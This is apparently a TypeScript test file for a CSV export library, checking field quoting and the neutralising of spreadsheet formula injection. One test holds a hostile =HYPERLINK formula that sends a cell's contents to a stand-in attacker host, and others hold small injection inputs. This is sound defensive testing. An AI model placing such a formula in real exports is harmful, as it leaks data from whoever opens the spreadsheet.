import { csvField, neutraliseFormula, toCsv } from '@/lib/csv';

describe(csvField, () => {
  it.each([
    ['plain', 'plain'],
    ['a, b', '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\r\nlf', '"cr\r\nlf"'],
    [' padded ', '" padded "'],
    [42, '42'],
    [null, ''],
    [undefined, ''],
    ['Қазақстан', 'Қазақстан'],
  ])('%j → %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });
});

describe(neutraliseFormula, () => {
  it.each([
    ['=', '=1+1', "'=1+1"],
    ['+', '+1-800-EVIL', "'+1-800-EVIL"],
    ['-', '-2+3', "'-2+3"],
    ['@', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['tab', '\t=cmd', "'\t=cmd"],
    ['carriage return', '\r=cmd', "'\r=cmd"],
    ['= after spaces', '   =1+1', "'   =1+1"],
    ['= after a no-break space', '\u00A0=1+1', "'\u00A0=1+1"],
  ])('prefixes a quote to text starting with %s', (_, value, expected) => {
    expect(neutraliseFormula(value)).toBe(expected);
  });

  it.each([
    ['text with = inside', 'a=b', 'a=b'],
    ['a hyphenated word', 'well-known', 'well-known'],
    ['an email address', 'press@example.org', 'press@example.org'],
    ['empty text', '', ''],
  ])('leaves %s alone', (_, value, expected) => {
    expect(neutraliseFormula(value)).toBe(expected);
  });

  it('keeps a negative number a number: the app computed it, no data wrote it', () => {
    expect(neutraliseFormula(-3)).toBe('-3');
    expect(neutraliseFormula(-0.5)).toBe('-0.5');
  });
});

describe(toCsv, () => {
  it('writes a hostile label as inert, quoted text in the header and the rows', () => {
    const label = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
    expect(toCsv([label, 'Meetings'], [[label, -1]], false)).toBe(
      `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for details"")",Meetings\r\n` +
        `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for details"")",-1\r\n`,
    );
  });

  it('writes a header and rows with CRLF line ends after a UTF-8 BOM', () => {
    expect(
      toCsv(
        ['Topic', 'Meetings'],
        [
          ['Rule of law, courts', 3],
          ['Қазақстан', 1],
        ],
      ),
    ).toBe('\uFEFFTopic,Meetings\r\n"Rule of law, courts",3\r\nҚазақстан,1\r\n');
  });

  it('can leave out the BOM and handles no rows', () => {
    expect(toCsv(['A'], [], false)).toBe('A\r\n');
  });
});
